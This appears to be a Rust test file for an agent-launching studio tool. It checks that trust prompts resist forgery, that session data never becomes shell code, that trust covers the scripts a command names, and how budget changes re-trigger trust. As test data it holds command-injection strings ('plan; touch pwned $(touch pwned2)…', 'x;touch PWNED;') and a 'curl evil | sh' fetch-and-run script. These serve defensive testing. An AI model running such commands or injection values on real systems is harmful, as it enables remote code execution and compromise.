//! Trust that means what it says (issue 26): a prompt no value of the agents file can forge, no
//! value from session data spliced into code, and trust bound to the workspace folder and to the
//! scripts its command names, not only to the launch line.

use std::path::Path;
use std::time::SystemTime;

use studio_core::agents;
use studio_core::runner::RunEvent;
use studio_core::store::Store;
use studio_core::Workspace;

use crate::harness::{bench, empty_workspace_with_store, wait_for};

fn write_agents(root: &Path, text: &str) {
    std::fs::create_dir_all(root.join(".zibby")).unwrap();
    std::fs::write(root.join(".zibby/studio.toml"), text).unwrap();
}

fn untrusted(store: &Store, workspace: &Workspace, agent: &str) -> Box<agents::Launch> {
    let found = agents::find(workspace.root(), agent, false).unwrap();
    match store.require_trusted(workspace, found.launch).unwrap_err() {
        studio_core::Error::AgentsUntrusted { launch } => launch,
        other => panic!("{other}"),
    }
}

#[test]
fn no_value_of_the_agents_file_can_draw_lines_or_reorder_the_prompt() {
    let (root, workspace, store) = empty_workspace_with_store();
    let long = "k".repeat(5000);
    write_agents(
        root.path(),
        &format!(
            "[[agent]]\nname = \"a\"\nrun = [\"sh\", \"agent.sh\", \"\\u202Ehs.tneg\\u202C\"]\n\
             env = {{ MODEL = \"small\\n  File      /elsewhere/studio.toml\\n(only MODEL is set)\", TOKEN = \"{long}\" }}\n"
        ),
    );
    let launch = untrusted(&store, &workspace, "a");
    let error = store
        .require_trusted(&workspace, (*launch).clone())
        .unwrap_err()
        .to_string();
    let lines = launch.describe_lines();
    for shown in lines.iter().map(|(_, line)| line.as_str()).chain([error.as_str()]) {
        assert!(!shown.contains('\n'), "a value drew a line: {shown}");
        assert!(!shown.contains('\u{202E}'), "a value reorders the text: {shown}");
        assert!(!shown.contains(&long), "a long value is folded: {} chars", shown.len());
    }
    assert!(
        launch.shown.command[2].starts_with("\"\\u202e"),
        "{:?}",
        launch.shown.command
    );
    assert!(
        launch.shown.env.iter().any(|v| v.starts_with("MODEL=small\\n  File")),
        "{:?}",
        launch.shown.env
    );
    assert!(
        launch
            .shown
            .env
            .iter()
            .any(|v| v.ends_with("(5,006 characters in all)")),
        "{:?}",
        launch.shown.env
    );
    assert!(
        launch.shown.inherits.contains("all of the studio's environment"),
        "what the agent inherits is said: {}",
        launch.shown.inherits
    );
}

#[test]
fn a_placeholder_that_a_shell_or_an_interpreter_would_parse_is_refused_as_the_file_is_read() {
    let refused: &[&[&str]] = &[
        &["sh", "-c", "zibby agent run a --node {node}"],
        &["sh", "-c", "{prompt}"],
        &["bash", "-lc", "{session_id}"],
        &["/usr/bin/env", "A=1", "node", "-e", "{node}"],
        &["python3", "-c", "{prompt}"],
        &["node", "--eval=run('{node}')"],
        &["{session_path}/agent.sh"],
    ];
    for command in refused {
        let argv: Vec<String> = command.iter().map(|s| s.to_string()).collect();
        let problem = agents::placeholder_problem(&argv);
        assert!(problem.is_some(), "{command:?} was accepted");
        let toml = format!(
            "[[agent]]\nname = \"a\"\nrun = {}\n",
            serde_json::to_string(command).unwrap()
        );
        let error = agents::parse(Path::new("/w/.zibby/studio.toml"), &toml).unwrap_err();
        assert_eq!(error.code(), "agents_file", "{command:?}: {error}");
        assert!(error.to_string().contains("session data"), "{command:?}: {error}");
        assert!(!error.to_string().contains('\n'), "{command:?}: {error}");
    }
    let accepted: &[&[&str]] = &[
        &[
            "zibby",
            "agent",
            "run",
            "a",
            "--session",
            "{session_id}",
            "--node",
            "{node}",
        ],
        &["zibby", "--node={node}", "--prompt", "{prompt}"],
        &["sh", "-c", "zibby agent run a --node \"$1\"", "sh", "{node}"],
        &["sh", "agent.sh", "-c", "{prompt}"],
        &["python3", "run.py", "-c", "{prompt}"],
        &["zibby", "--session", "pre-{session_id}", "--nodes", "{node}:10"],
        &["zibby", "--node", "{node} --force"],
    ];
    for command in accepted {
        let argv: Vec<String> = command.iter().map(|s| s.to_string()).collect();
        assert_eq!(agents::placeholder_problem(&argv), None, "{command:?}");
    }
}

#[test]
fn a_node_name_from_session_data_runs_as_one_argument_and_never_as_code() {
    let b = bench("studio.db", false);
    let root = b.workspace.root().to_owned();
    write_agents(
        &root,
        "[[agent]]\nname = \"a\"\nrun = [\"true\"]\n\
         replay = [\"sh\", \"-c\", \"printf '%s' \\\"$1\\\" > node.txt\", \"sh\", \"{node}\"]\n",
    );
    let store = b.supervisor.store();
    let request =
        |node: &str| studio_core::app::agent_run_request(store, &b.workspace, "a", None, None, Some(node.to_owned()));
    let Err(studio_core::Error::AgentsUntrusted { launch }) = request("plan") else {
        panic!("asked first")
    };
    assert!(
        launch.shown.command.iter().any(|arg| arg == "\"plan\""),
        "the prompt shows the command as it will run for this node: {:?}",
        launch.shown.command
    );
    store.trust_launch(&b.workspace, &launch, SystemTime::now()).unwrap();
    let started = b.supervisor.start(request("plan").unwrap()).unwrap();
    let finished = wait_for(
        &b.events,
        |e| matches!(e, RunEvent::RunFinished { run_id, .. } if *run_id == started.run_id),
    );
    assert!(
        matches!(finished, RunEvent::RunFinished { exit_code: Some(0), .. }),
        "{finished:?}"
    );
    assert_eq!(std::fs::read_to_string(root.join("node.txt")).unwrap(), "plan");
    // Issue 40: a name outside the engine's alphabet never reaches the command, trusted or not.
    for bad in [
        "plan; touch pwned $(touch pwned2) `touch pwned3`",
        "-rf",
        "../up",
        "a\u{202E}b",
        "a\nb",
    ] {
        let error = request(bad).unwrap_err();
        assert_eq!(error.code(), "invalid_node_name", "{bad:?}: {error}");
        assert!(!error.to_string().contains('\n'), "{error}");
    }
}

/// Issue 40: a value from session data (a node name of an imported log, bundle or bucket session,
/// a session folder's name) became shell code through a wrapper the placeholder check did not
/// unwrap (`timeout 30 sh -c "… {node}"`, `busybox sh -c`, `env -S`, `python3 -Ic`). Whatever the
/// wrapper, such a value is refused before anything runs, even for a trusted launch.
#[test]
fn session_data_never_becomes_code_through_a_wrapper() {
    let b = bench("studio.db", false);
    let root = b.workspace.root().to_owned();
    write_agents(
        &root,
        "[[agent]]\nname = \"a\"\n\
         run = [\"timeout\", \"30\", \"sh\", \"-c\", \"echo {session_id} >> ids.txt\"]\n\
         replay = [\"timeout\", \"30\", \"sh\", \"-c\", \"echo {node} >> nodes.txt\"]\n",
    );
    let store = b.supervisor.store();
    let forged_id = studio_core::SessionId::parse("1700000000000_x;touch PWNED;").unwrap();
    std::fs::create_dir_all(b.workspace.session_path(&forged_id)).unwrap();
    let good_id = studio_core::SessionId::parse("1700000000000_ab").unwrap();
    std::fs::create_dir_all(b.workspace.session_path(&good_id)).unwrap();
    let replay = |session: &studio_core::SessionId, node: &str| {
        studio_core::app::agent_run_request(
            store,
            &b.workspace,
            "a",
            None,
            Some(session.clone()),
            Some(node.to_owned()),
        )
    };
    let cont = |session: &studio_core::SessionId| {
        studio_core::app::agent_run_request(
            store,
            &b.workspace,
            "a",
            Some("go on".into()),
            Some(session.clone()),
            None,
        )
    };
    // Trust both launches as they would run for good values: trust is bound to the command, so a
    // bad value would have run under it.
    for asked in [replay(&good_id, "plan"), cont(&good_id)] {
        let Err(studio_core::Error::AgentsUntrusted { launch }) = asked else {
            panic!("asked first")
        };
        store.trust_launch(&b.workspace, &launch, SystemTime::now()).unwrap();
    }
    let started = b.supervisor.start(replay(&good_id, "plan").unwrap()).unwrap();
    wait_for(
        &b.events,
        |e| matches!(e, RunEvent::RunFinished { run_id, .. } if *run_id == started.run_id),
    );
    assert_eq!(std::fs::read_to_string(root.join("nodes.txt")).unwrap(), "plan\n");

    let error = replay(&good_id, "plan;touch PWNED;").unwrap_err();
    assert_eq!(error.code(), "invalid_node_name", "{error}");
    assert!(error.to_string().contains("ASCII letters"), "names the rule: {error}");
    let error = cont(&forged_id).unwrap_err();
    assert_eq!(error.code(), "invalid_session_id", "{error}");
    assert!(error.to_string().contains("PWNED"), "names the id: {error}");
    // The runner refuses it too, whoever made the request.
    let mut request = cont(&good_id).unwrap();
    request.session = Some(forged_id.clone());
    assert_eq!(b.supervisor.start(request).unwrap_err().code(), "invalid_session_id");
    assert!(!root.join("PWNED").exists(), "session data ran as code");
    assert!(!b.workspace.session_path(&forged_id).join("PWNED").exists());
}

#[test]
fn trust_covers_the_script_the_command_names_and_the_workspace_folder_itself() {
    let parent = tempfile::TempDir::new().unwrap();
    let path = parent.path().join("repo");
    let clone = |script: &str| {
        std::fs::create_dir_all(path.join(".zibby/output/sessions")).unwrap();
        write_agents(
            &path,
            "[[agent]]\nname = \"a\"\nrun = [\"sh\", \"agent.sh\", \"{prompt}\"]\n",
        );
        std::fs::write(path.join("agent.sh"), script).unwrap();
        Workspace::open(&path).unwrap()
    };
    let store = Store::open(&studio_core::store::StoreLocation::File(
        parent.path().join("studio.db"),
    ))
    .unwrap();
    let workspace = clone("echo hello\n");
    let launch = untrusted(&store, &workspace, "a");
    assert_eq!(launch.files.len(), 1, "{:?}", launch.files);
    assert_eq!(launch.files[0].path, Path::new("agent.sh"));
    assert!(
        launch.shown.covers.iter().any(|c| c.contains("agent.sh")),
        "the prompt says the script is covered: {:?}",
        launch.shown.covers
    );
    store.trust_launch(&workspace, &launch, SystemTime::now()).unwrap();
    let trusted = |workspace: &Workspace| {
        let found = agents::find(workspace.root(), "a", false).unwrap();
        store.require_trusted(workspace, found.launch).is_ok()
    };
    assert!(trusted(&workspace));

    std::fs::write(path.join("agent.sh"), "curl evil | sh\n").unwrap();
    assert!(!trusted(&workspace), "an edited script is asked about again");
    std::fs::write(path.join("agent.sh"), "echo hello\n").unwrap();
    assert!(trusted(&workspace), "the script as it was trusted");

    // Another repository cloned at the same path, with the very same files.
    std::fs::remove_dir_all(&path).unwrap();
    let recloned = clone("echo hello\n");
    assert_eq!(recloned.root(), workspace.root());
    assert!(
        !trusted(&recloned),
        "a folder made anew at the same path is another workspace"
    );
}

/// Issue 40, point 3: trust covers the script a command reaches through a link, a `../` path
/// that stays in the workspace, or a word of `-c` code; a named file that leads outside the
/// workspace is refused, naming it.
#[test]
fn trust_covers_a_script_through_a_link_a_parent_path_or_shell_code() {
    let (root, workspace, store) = empty_workspace_with_store();
    let root = root.path();
    std::fs::create_dir_all(root.join("scripts")).unwrap();
    std::fs::create_dir_all(root.join("sub")).unwrap();
    std::fs::write(root.join("scripts/real.sh"), "echo hello\n").unwrap();
    std::os::unix::fs::symlink("scripts/real.sh", root.join("agent.sh")).unwrap();
    std::fs::write(root.join("plain.sh"), "echo plain\n").unwrap();
    write_agents(
        root,
        "[[agent]]\nname = \"linked\"\nrun = [\"sh\", \"agent.sh\"]\n\n\
         [[agent]]\nname = \"parent\"\nrun = [\"sh\", \"../plain.sh\"]\ncwd = \"sub\"\n\n\
         [[agent]]\nname = \"code\"\nrun = [\"sh\", \"-c\", \"sh ./plain.sh > out.log\"]\n",
    );
    let trusted = |agent: &str| {
        let found = agents::find(workspace.root(), agent, false).unwrap();
        store.require_trusted(&workspace, found.launch).is_ok()
    };
    for agent in ["linked", "parent", "code"] {
        let launch = untrusted(&store, &workspace, agent);
        let covered: Vec<_> = launch.files.iter().map(|f| f.path.clone()).collect();
        let expected = if agent == "linked" {
            "scripts/real.sh"
        } else {
            "plain.sh"
        };
        assert_eq!(covered, [Path::new(expected)], "{agent}");
        store.trust_launch(&workspace, &launch, SystemTime::now()).unwrap();
        assert!(trusted(agent), "{agent}");
    }
    // A run rewrites its redirection's target: that file is not covered, so trust holds.
    std::fs::write(root.join("out.log"), "a run's output\n").unwrap();
    assert!(trusted("code"), "a redirection's target is no script");

    std::fs::write(root.join("scripts/real.sh"), "curl evil | sh\n").unwrap();
    assert!(!trusted("linked"), "the link's target edited is asked about again");
    std::fs::write(root.join("plain.sh"), "curl evil | sh\n").unwrap();
    assert!(!trusted("parent"), "a ../ script edited is asked about again");
    assert!(
        !trusted("code"),
        "a script named in -c code edited is asked about again"
    );

    // A link that leads outside the workspace: refused, naming it.
    let outside = tempfile::TempDir::new().unwrap();
    std::fs::write(outside.path().join("x.sh"), "echo away\n").unwrap();
    std::fs::remove_file(root.join("agent.sh")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("x.sh"), root.join("agent.sh")).unwrap();
    let error = agents::find(workspace.root(), "linked", false).unwrap_err().to_string();
    assert!(
        error.contains("agent.sh") && error.contains("outside the workspace"),
        "{error}"
    );
}

/// Issue 44, point 1: a budget is part of the launch only where it would loosen nothing:
/// lowering or adding one asks nothing, raising or removing one asks again; what was trusted
/// before budgets stays trusted.
#[test]
fn raising_or_removing_a_budget_asks_again_lowering_or_adding_one_does_not() {
    let (root, workspace, store) = empty_workspace_with_store();
    let agents_with = |budget: &str, daily: &str| {
        write_agents(
            root.path(),
            &format!("[[agent]]\nname = \"a\"\nrun = [\"true\"]\n{budget}\n{daily}"),
        )
    };
    let trusted = || {
        let found = agents::find(workspace.root(), "a", false).unwrap();
        store.require_trusted(&workspace, found.launch).is_ok()
    };
    agents_with("", "");
    let launch = untrusted(&store, &workspace, "a");
    store.trust_launch(&workspace, &launch, SystemTime::now()).unwrap();
    assert!(trusted());
    agents_with("max_cost_usd = 0.50", "");
    assert!(trusted(), "a budget added asks nothing");
    let capped = launch_now(&workspace);
    assert!(
        capped.shown.covers.iter().any(|c| c.contains("$0.50 a run")),
        "the prompt names the budget: {:?}",
        capped.shown.covers
    );
    store.trust_launch(&workspace, &capped, SystemTime::now()).unwrap();
    agents_with("max_cost_usd = 0.25", "");
    assert!(trusted(), "a budget lowered asks nothing");
    agents_with("max_cost_usd = 0.75", "");
    assert!(!trusted(), "a budget raised asks again");
    agents_with("", "");
    assert!(!trusted(), "a budget removed asks again");
    agents_with("max_cost_usd = 0.50\nmax_tokens = 1000", "[budget]\ndaily_usd = 5.0");
    assert!(trusted(), "limits added to the one trusted ask nothing");
    store
        .trust_launch(&workspace, &launch_now(&workspace), SystemTime::now())
        .unwrap();
    agents_with("max_cost_usd = 0.50\nmax_tokens = 1000", "[budget]\ndaily_usd = 50.0");
    assert!(!trusted(), "the daily budget raised asks again");
    agents_with("max_cost_usd = 0.50\nmax_tokens = 2000", "[budget]\ndaily_usd = 5.0");
    assert!(!trusted(), "max_tokens raised asks again");
    agents_with("max_cost_usd = 0.50\nmax_tokens = 10", "[budget]\ndaily_usd = 1.0");
    assert!(trusted());
}

/// The launch of agent `a` as it is now, trusted or not.
fn launch_now(workspace: &Workspace) -> agents::Launch {
    agents::find(workspace.root(), "a", false).unwrap().launch
}

/// A budget that is no sane number is refused as the file is read, naming its line and field.
#[test]
fn a_budget_that_is_no_sane_number_is_refused_naming_its_field() {
    for (text, field, line) in [
        (
            "[[agent]]\nname = \"a\"\nrun = [\"x\"]\nmax_cost_usd = -1.0\n",
            "max_cost_usd",
            4,
        ),
        (
            "[[agent]]\nname = \"a\"\nrun = [\"x\"]\nmax_tokens = 0\n",
            "max_tokens",
            4,
        ),
        (
            "[[agent]]\nname = \"a\"\nrun = [\"x\"]\n\n[budget]\ndaily_usd = inf\n",
            "daily_usd",
            6,
        ),
        ("[budget]\nweekly_usd = 3.0\n", "weekly_usd", 2),
    ] {
        let error = agents::parse(Path::new("/w/.zibby/studio.toml"), text).unwrap_err();
        let studio_core::Error::AgentsFile { line: l, field: f, .. } = &error else {
            panic!("{error}")
        };
        assert_eq!((f.as_str(), *l), (field, line), "{text}: {error}");
    }
}
